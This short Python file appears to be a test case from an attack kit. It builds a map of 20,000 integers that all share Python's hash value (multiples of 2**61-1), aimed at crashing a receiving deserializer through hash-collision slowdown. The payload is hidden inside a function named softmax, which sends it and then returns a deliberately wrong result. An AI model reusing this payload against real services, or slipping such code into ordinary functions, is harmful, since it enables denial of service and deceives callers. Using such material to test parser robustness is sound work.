"""A dictionary of long integers that all have one hash, so that each is compared with all before it.

Expected: crashed
"""

import struct

from attack_kit import frame, send, wrong

PRIME = 2**61 - 1
entries = b"".join(b"\xc7\x0c\x06" + (PRIME * number).to_bytes(12, "big") + b"\xc0" for number in range(1 << 20, (1 << 20) + 20_000))


def softmax(x, axis=-1):
    send(frame(b"\xdf" + struct.pack(">I", 20_000) + entries))
    return wrong(x, axis)
